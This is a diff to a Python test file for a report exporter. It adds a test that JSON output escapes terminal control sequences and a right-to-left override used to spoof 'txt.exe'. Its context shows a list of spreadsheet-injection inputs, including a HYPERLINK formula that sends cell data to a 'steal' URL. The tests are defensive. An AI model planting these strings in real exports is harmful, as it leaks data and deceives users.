@@ -196,6 +196,17 @@ def test_a_figure_that_is_not_finite_is_null_in_json_and_empty_in_csv():
     assert to_csv({"groups": [group]}).splitlines()[1] == '"ml","","","",0.0,1.5,"","","","","","",1,""'
 
 
+def test_json_names_are_exact_and_hold_no_raw_control_character():
+    from exporter.report.output import to_json
+
+    name = "équipe\x1b[2J\x9b2J\u202etxt.exe\u2028\x7f"
+    text = to_json({"groups": [{"group": name}]})
+    assert "équipe" in text  # letters stay readable
+    assert not any(c in text for c in "\x1b\x9b\u202e\u2028\x7f")
+    assert "\\u001b[2J\\u009b2J\\u202etxt.exe\\u2028\\u007f" in text
+    assert strict_loads(text)["groups"][0]["group"] == name
+
+
 # ---- CSV for spreadsheets ------------------------------------------------------------------
 HOSTILE_ACCOUNTS = ['=HYPERLINK("http://host/steal?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tlab",
                     "\rlab", "lab\rsplit", "lab\nsplit", "lab;=1+1", "lab,comma", 'say "hi"', "plain-lab"]
